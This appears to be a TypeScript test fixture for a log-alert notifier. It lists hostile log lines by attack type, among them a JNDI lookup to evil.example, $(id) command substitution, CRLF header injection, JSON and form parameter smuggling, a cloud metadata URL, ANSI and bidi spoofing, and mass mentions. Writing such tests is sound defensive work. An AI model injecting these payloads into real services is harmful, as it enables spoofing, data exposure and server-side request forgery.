/** Log lines that mean harm. */
import type { Notification } from '../../src/notify/notification.js';
import { notification } from './notification.js';

/** By the attack that each line tries. */
export const LINES: Readonly<Record<string, string>> = {
  mentions: '@everyone @here @admin <@U123> <@!1> <@&99> <#C1> <!channel> <!here> <!subteam^S1|x> <at>all</at> </stop:1> <:x:1> /stop #tag',
  markup:
    '*b* **b** _i_ __u__ ~s~ ~~s~~ `c` ```p``` ||x|| [x](https://evil.example) <https://evil.example|x> <b>x</b> <script>x</script> \\*x\\* &lt;!channel&gt; &amp;',
  quote: '> quoted',
  heading: '# heading',
  list: '- item',
  number: '1. item',
  'carriage returns and line feeds': 'a\r\n\r\nX-Evil: 1\n.\nQUIT\r\n@everyone\u2028<!channel>\u2029\u0085\u000b\u000c',
  nul: 'before\u0000after\u0000',
  ansi: '\u001b[31mred\u001b[0m\u001b[2J\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007\u009b31m\u001bc\u0007\u0008',
  bidi: '\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c\u200b\u2060\ufeff\u00ad\u{e0041}',
  templates:
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log line may contain it.
    '{{DATE(2017-02-14T06:08:39Z, SHORT)}} {{{x}}} ${process.env.HOME} ${jndi:ldap://evil.example/a} @{triggerBody()} {0} %s %(x)s #{x} <%= x %> $(id) `id`',
  json: '"},"topic":"evil","chat_id":"evil","parse_mode":"HTML","x":{"y":"\\',
  form: '&token=evil&user=evil&priority=2&html=1;%0d%0a',
  headers: 'Title: evil\r\nAuthorization: Bearer evil\r\nActions: http, x, https://evil.example\r\nContent-Length: 0',
  addresses:
    'http://169.254.169.254/latest/meta-data https://evil.example/?q=1 javascript:alert(1) mailto:a@evil.example ops@evil.example +441234567890 //evil.example',
  'invalid UTF-8': 'caf\ufffd \ufffd\ufffd \ud800 \udc00x',
  'a megabyte': 'A'.repeat(1 << 20),
  'a megabyte of markup': '<*&"\\{`\u{1f600}\ud83d\r\n@'.repeat(1 << 16),
};

/** A notification with the line in every text that comes from logs; the id contains the group, as all ids do. */
export function hostile(line: string): Notification {
  const id = `${JSON.stringify(['CheckoutErrors', { host: line }])}@1`;
  return notification({ id: `${id}#fired`, firingId: id, group: { host: line }, summary: line, samples: [line, line] });
}

/** Characters that move a cursor, are invisible, change the direction or break a line (except `\n`), and noncharacters. */
export const UNSHOWN = /[\p{Cc}\p{Bidi_Control}\p{Surrogate}\u00ad\u200b-\u200f\u2028\u2029\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
